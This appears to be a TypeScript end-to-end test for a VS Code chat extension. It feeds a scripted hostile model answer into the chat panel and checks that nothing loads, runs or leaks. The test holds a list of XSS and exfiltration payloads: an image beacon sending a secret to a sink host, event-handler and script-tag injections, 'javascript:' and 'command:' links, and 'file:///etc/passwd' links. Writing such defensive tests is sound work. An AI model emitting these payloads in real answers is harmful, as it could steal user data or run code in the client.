import assert from 'node:assert/strict';
import { before, describe, it } from 'node:test';
import { startFaultServer } from '../servers/faultServer.ts';
import { openaiScript } from '../servers/openaiScript.ts';
import { liveSession } from './liveSession.ts';

const script = openaiScript();
const run = 'window.top.pwned = 1; window.pwned = 1';

/** Everything a model could write to make the panel load, run or open something. `sink` must never be asked. */
const hostile = (sink: string) =>
  [
    `![beacon](${sink}/image.png?secret=1)`,
    `<img src="${sink}/html.png" onerror="${run}">`,
    `<svg onload="${run}"><image href="${sink}/svg.png"/></svg>`,
    `<iframe src="${sink}/frame"></iframe><object data="${sink}/object"></object>`,
    `<link rel="stylesheet" href="${sink}/style.css"><style>@import url(${sink}/import.css);</style>`,
    `<script>${run}</script><form action="${sink}/form"><input type=submit autofocus onfocus="${run}"></form>`,
    `<video poster="${sink}/poster.png"><source src="${sink}/video.mp4"></video>`,
    `<meta http-equiv="refresh" content="0; url=${sink}/refresh"><base href="${sink}/">`,
    `<details open ontoggle="${run}">x</details>`,
    '[run a command](command:workbench.action.closeActiveEditor)',
    `[run a script](javascript:${encodeURIComponent(run)})`,
    '[read a file](file:///etc/passwd) [open the editor](vscode://file/etc/passwd)',
    `[ref]: ${sink}/reference.png\n\n![by reference][ref]`,
    '[a page](https://example.invalid/page)',
    'The end.',
  ].join('\n\n');

declare global {
  interface Window {
    /** Set by a payload that managed to run. */
    pwned?: unknown;
  }
}

describe('a hostile answer', () => {
  const live = liveSession(
    async () => ({ model: await startFaultServer(), sink: await startFaultServer() }),
    ({ model }) => ({
      settings: {
        'parley.connections': { odd: { provider: 'openai-compatible', baseUrl: `${model.url}/v1`, label: 'Odd' } },
      },
    }),
  );
  const asked: string[] = [];

  before(async () => {
    live.window.page.on('request', (request) => asked.push(request.url()));
    live.servers.model.script(
      { status: 200, headers: { 'content-type': 'application/json' } },
      { bytes: JSON.stringify({ data: [{ id: 'odd-model' }] }) },
    );
    await live.window.showPanel();
    await live.chat.pickModel('odd-model');
  });

  const nothingGotOut = async () => {
    assert.deepEqual(live.servers.sink.requests, []);
    assert.deepEqual(
      asked.filter((url) => url.startsWith(live.servers.sink.url) || url.includes('example.invalid')),
      [],
    );
    const ran = await Promise.all(live.window.page.frames().map((frame) => frame.evaluate(() => window.pwned)));
    assert.deepEqual(
      ran.filter((value) => value !== undefined),
      [],
    );
  };

  it('loads nothing and runs nothing, while it arrives and after a reload', async () => {
    const text = hostile(live.servers.sink.url);
    const pieces = text.match(/[^]{1,7}/g) ?? [];
    live.servers.model.script(
      { bytes: [script.open(), ...pieces.map((piece) => script.text(piece))].join('') },
      { bytes: script.finish('stop') + script.done() },
    );
    const answer = await live.chat.ask('Be hostile.');
    await answer.getByText('The end.').waitFor();
    await nothingGotOut();
    await live.window.reload();
    await live.chat.show();
    await (await live.chat.ended()).getByText('The end.').waitFor();
    await nothingGotOut();
  });

  it('has links to web pages only, and they open after a question', async () => {
    const answer = await live.chat.ended();
    const links = answer.getByRole('link');
    const titles = await links.evaluateAll((all) => all.map((link) => (link as HTMLElement).title));
    const { url } = live.servers.sink;
    // Bare addresses inside the shown markup are links too: to be clicked, never loaded.
    assert.deepEqual(
      titles.filter((title) => !/^https?:/.test(title)),
      [],
    );
    for (const title of [`${url}/image.png?secret=1`, `${url}/reference.png`]) assert.ok(titles.includes(title));
    assert.equal(titles.at(-1), 'https://example.invalid/page');
    await links.last().click();
    const dialog = live.window.page.locator('.monaco-dialog-box');
    await dialog.getByText('https://example.invalid/page').waitFor();
    await live.window.press('Escape');
    await dialog.waitFor({ state: 'detached' });
    await nothingGotOut();
  });

  it('what is no link does nothing when it is clicked', async () => {
    await live.window.openFile('src/money.ts');
    const answer = await live.chat.ended();
    for (const text of ['run a command', 'run a script', 'read a file']) await answer.getByText(text).first().click();
    await live.window.palette('Parley: Show Log');
    await live.window.page.locator('.tab.active[data-resource-name="money.ts"]').waitFor();
    await nothingGotOut();
  });
});
